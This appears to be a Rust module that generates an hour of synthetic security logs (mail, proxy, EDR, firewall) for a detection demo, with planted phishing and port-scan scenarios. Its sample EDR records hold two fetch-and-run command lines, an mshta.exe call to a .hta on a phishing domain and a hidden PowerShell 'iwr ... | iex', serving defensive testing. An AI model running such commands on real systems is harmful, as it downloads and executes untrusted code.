//! The demo's events: an hour of ordinary business of a small company, and two stories inside it.
//!
//! The same seed gives the same hour, so a replay finds the same records.

use chrono::{DateTime, SecondsFormat, TimeDelta, Utc};
use serde_json::{Value, json};

/// Ordinary records per hour.
const ORDINARY: [(Source, usize); 4] =
    [(Source::Mail, 2_000), (Source::Proxy, 14_000), (Source::Edr, 9_000), (Source::Firewall, 15_000)];
/// People whose ordinary work the hour is made of.
const PEOPLE: usize = 60;

/// The domain of the phishing mail, which the demo's intelligence knows.
pub(super) const BAD_DOMAIN: &str = "login-northwind.example";

/// A log source of the demo.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Source {
    Mail,
    Proxy,
    Edr,
    Firewall,
}

impl Source {
    pub(super) const ALL: [Self; 4] = [Self::Mail, Self::Proxy, Self::Edr, Self::Firewall];

    /// The stream that it feeds.
    pub(super) const fn stream(self) -> &'static str {
        match self {
            Self::Mail => "mail_gateway",
            Self::Proxy => "proxy",
            Self::Edr => "edr",
            Self::Firewall => "firewall",
        }
    }

    /// The topic that the stream reads.
    pub(super) const fn topic(self) -> &'static str {
        match self {
            Self::Mail => "logs.mail.gateway",
            Self::Proxy => "logs.network.proxy",
            Self::Edr => "logs.endpoint.edr",
            Self::Firewall => "logs.network.firewall",
        }
    }
}

/// One record on its way to Kafka.
#[derive(Debug, Clone)]
pub(super) struct Record {
    pub(super) source: Source,
    pub(super) time: DateTime<Utc>,
    pub(super) payload: String,
    /// What a person should hear about it.
    pub(super) remark: Option<&'static str>,
}

/// Partitions of each topic.
pub(super) const PARTITIONS: i32 = 3;

/// The hour before the last one, so that every window of it can close.
pub(super) fn begin(now: DateTime<Utc>) -> DateTime<Utc> {
    let hour = now.timestamp().div_euclid(3600) * 3600 - 2 * 3600;
    DateTime::from_timestamp(hour, 0).unwrap_or(now)
}

/// All records, in the order in which they are sent.
pub(super) fn all(begin: DateTime<Utc>) -> Vec<Record> {
    let mut random = Random(7);
    let mut records: Vec<Record> = vec![];
    for (source, count) in ORDINARY {
        for number in 0..count {
            let at = begin + TimeDelta::milliseconds((number as i64) * 3_570_000 / (count as i64));
            records.push(record(source, at, ordinary(source, at, &mut random), None));
        }
    }
    records.extend(phishing(begin));
    records.extend(scan(begin));
    records.sort_by_key(|record| record.time);
    records.extend(odd_ones(begin));
    // The last records of every partition are an hour later: they tell that the hour is over.
    for source in Source::ALL {
        for minutes in [90, 118] {
            let at = begin + TimeDelta::minutes(minutes);
            let more = (0..PARTITIONS).map(|_| record(source, at, ordinary(source, at, &mut random), None));
            records.extend(more.collect::<Vec<_>>());
        }
    }
    records
}

fn record(source: Source, time: DateTime<Utc>, value: Value, remark: Option<&'static str>) -> Record {
    Record { source, time, payload: value.to_string(), remark }
}

fn iso(time: DateTime<Utc>) -> String {
    time.to_rfc3339_opts(SecondsFormat::Millis, true)
}

/// Mail, click and process of one user; and another user who saw the same site.
fn phishing(begin: DateTime<Utc>) -> Vec<Record> {
    let at = |minutes: i64, seconds: i64| begin + TimeDelta::seconds(minutes * 60 + seconds);
    let mail = json!({
        "messageTime": iso(at(12, 3)), "GUID": "m-phish-1", "type": "message", "status": "delivered",
        "fromAddress": ["it-support@login-northwind.example"], "headerFrom": "IT Support",
        "recipient": ["maya.lindt@northwind.example"], "subject": "Your password expires today",
        "messageID": "<1@login-northwind.example>", "phishScore": 78, "spamScore": 22, "impostorScore": 0, "malwareScore": 0,
    });
    let click = |time: DateTime<Utc>, user: &str, ip: &str, host: &str| {
        json!({
            "datetime": iso(time), "action": "Allowed", "requestmethod": "GET", "protocol": "HTTPS", "status": 200,
            "url": format!("https://{BAD_DOMAIN}/reset"), "hostname": BAD_DOMAIN, "user": user, "ClientIP": ip,
            "devicehostname": host, "urlcategory": "Miscellaneous or Unknown", "useragent": "Mozilla/5.0",
        })
    };
    let process = json!({
        "time": iso(at(14, 31)), "category": "AdvancedHunting-DeviceProcessEvents",
        "properties": {
            "Timestamp": iso(at(14, 30)), "DeviceName": "WS-MAYA", "ActionType": "ProcessCreated", "ReportId": 1,
            "FileName": "mshta.exe", "ProcessCommandLine": format!("mshta.exe https://{BAD_DOMAIN}/update.hta"),
            "AccountName": "maya.lindt", "AccountUpn": "maya.lindt@northwind.example",
            "InitiatingProcessFileName": "outlook.exe",
        },
    });
    vec![
        record(
            Source::Proxy,
            at(9, 40),
            click(at(9, 40), "omar.haddad@northwind.example", "10.20.1.23", "WS-OMAR"),
            None,
        ),
        record(Source::Mail, at(12, 3), mail, Some("mail gateway: \"Your password expires today\" reaches maya.lindt")),
        record(
            Source::Proxy,
            at(13, 10),
            click(at(13, 10), "maya.lindt@northwind.example", "10.20.1.15", "WS-MAYA"),
            Some("proxy: maya.lindt opens login-northwind.example/reset"),
        ),
        record(Source::Edr, at(14, 30), process, Some("EDR: outlook.exe starts mshta.exe on ws-maya")),
    ]
}

/// A port scan by a host, and a suspicious process on it.
fn scan(begin: DateTime<Utc>) -> Vec<Record> {
    let start = begin + TimeDelta::seconds(31 * 60);
    let mut records: Vec<Record> = (0..40)
        .map(|port| {
            let time = start + TimeDelta::milliseconds(port * 2_500);
            let value = json!({
                "eventtime": time.timestamp_nanos_opt().unwrap_or_default(), "type": "traffic", "subtype": "forward",
                "action": "deny", "srcip": "10.20.1.47", "srcname": "WS-INES", "dstip": "10.20.2.40",
                "dstport": 20 + port, "proto": 6, "devname": "FW-1", "sentbyte": 60, "rcvdbyte": 0,
            });
            let remark =
                (port == 0).then_some("firewall: ws-ines is refused at one port of 10.20.2.40 after the other");
            record(Source::Firewall, time, value, remark)
        })
        .collect();
    let time = begin + TimeDelta::seconds(33 * 60 + 20);
    let process = json!({
        "time": iso(time), "category": "AdvancedHunting-DeviceProcessEvents",
        "properties": {
            "Timestamp": iso(time), "DeviceName": "WS-INES", "ActionType": "ProcessCreated", "ReportId": 2,
            "FileName": "powershell.exe", "ProcessCommandLine": "powershell.exe -w hidden -c \"iwr https://files.example/n.ps1 | iex\"",
            "AccountName": "ines.okafor", "AccountUpn": "ines.okafor@northwind.example",
            "InitiatingProcessFileName": "winword.exe",
        },
    });
    records.push(record(Source::Edr, time, process, Some("EDR: winword.exe starts powershell.exe on ws-ines")));
    records
}

/// One record that comes two hours late, and one that is cut off.
fn odd_ones(begin: DateTime<Utc>) -> Vec<Record> {
    let late = begin - TimeDelta::hours(2);
    let value = json!({
        "datetime": iso(late), "action": "Allowed", "requestmethod": "GET", "status": 200, "url": "https://wiki.northwind.example/",
        "hostname": "wiki.northwind.example", "user": "user07@northwind.example", "ClientIP": "10.20.3.7", "urlcategory": "Corporate",
    });
    let end = begin + TimeDelta::minutes(59);
    let broken = Record {
        source: Source::Firewall,
        time: end,
        payload: "{\"eventtime\": 1790000000000000000, \"type\": \"traf".to_owned(),
        remark: Some("firewall: a record arrives cut off in the middle"),
    };
    vec![record(Source::Proxy, late, value, Some("proxy: a record arrives two hours late")), broken]
}

/// An ordinary record.
fn ordinary(source: Source, at: DateTime<Utc>, random: &mut Random) -> Value {
    let person = random.below(PEOPLE);
    let (user, ip, host) = (format!("user{person:02}"), format!("10.20.3.{person}"), format!("WS-{person:02}"));
    let sites = ["wiki.northwind.example", "mail.northwind.example", "news.example", "docs.example", "weather.example"];
    match source {
        Source::Mail => json!({
            "messageTime": iso(at), "GUID": format!("m-{}", random.next()), "type": "message", "status": "delivered",
            "fromAddress": [format!("partner{}@supplier.example", random.below(30))], "recipient": [format!("{user}@northwind.example")],
            "subject": format!("Order {}", random.below(10_000)), "phishScore": random.below(20), "spamScore": random.below(30),
            "impostorScore": 0, "malwareScore": 0,
        }),
        Source::Proxy => {
            let site = sites[random.below(sites.len())];
            json!({
                "datetime": iso(at), "action": "Allowed", "requestmethod": "GET", "protocol": "HTTPS", "status": 200,
                "url": format!("https://{site}/page/{}", random.below(500)), "hostname": site, "user": format!("{user}@northwind.example"),
                "ClientIP": ip, "devicehostname": host, "urlcategory": "Professional Services", "useragent": "Mozilla/5.0",
                "requestsize": 400 + random.below(800), "responsesize": 2_000 + random.below(90_000),
            })
        }
        Source::Edr => {
            let (parent, child) = [
                ("explorer.exe", "chrome.exe"),
                ("explorer.exe", "excel.exe"),
                ("services.exe", "svchost.exe"),
                ("chrome.exe", "chrome.exe"),
                ("teams.exe", "teams.exe"),
            ][random.below(5)];
            json!({
                "time": iso(at), "category": "AdvancedHunting-DeviceProcessEvents",
                "properties": {
                    "Timestamp": iso(at), "DeviceName": host, "ActionType": "ProcessCreated", "ReportId": random.next() >> 40,
                    "FileName": child, "ProcessCommandLine": format!("{child} --tab {}", random.below(9_000)),
                    "AccountName": user, "AccountUpn": format!("{user}@northwind.example"), "InitiatingProcessFileName": parent,
                },
            })
        }
        Source::Firewall => {
            let port = [443, 443, 80, 53, 445][random.below(5)];
            json!({
            "eventtime": at.timestamp_nanos_opt().unwrap_or_default(), "type": "traffic", "subtype": "forward", "action": "accept",
            "srcip": ip, "srcname": host, "srcport": 40_000 + random.below(20_000), "dstip": format!("10.20.2.{}", 10 + random.below(20)),
            "dstport": port, "proto": 6, "devname": "FW-1", "service": "HTTPS",
            "sentbyte": 500 + random.below(5_000), "rcvdbyte": 800 + random.below(60_000), "sessionid": random.next().to_string(),
            })
        }
    }
}

/// A small generator whose sequence never changes (a linear congruential one, with Knuth's MMIX numbers).
struct Random(u64);

impl Random {
    const fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 16
    }

    const fn below(&mut self, limit: usize) -> usize {
        (self.next() % limit as u64) as usize
    }
}
